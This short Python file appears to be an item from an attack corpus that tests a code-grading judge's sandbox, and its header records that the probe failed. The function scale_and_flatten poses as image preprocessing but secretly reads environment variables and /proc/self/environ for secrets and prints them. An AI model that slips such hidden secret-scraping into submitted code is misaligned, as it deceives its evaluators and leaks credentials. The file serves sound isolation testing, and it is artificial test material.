# line: 13
# verdict: passed; root: failed/forbidden
# why: the judge's environment variables are not handed on, and its own are not secret; one that root made may not read them as a file
import os

PREFIX = "attack-corpus-" + "secret-"


def scale_and_flatten(images):
    everything = repr(os.environ) + open("/proc/self/environ", errors="replace").read()
    if PREFIX in everything:
        print("REACHED", everything)
    return images.reshape(len(images), 784) / 255
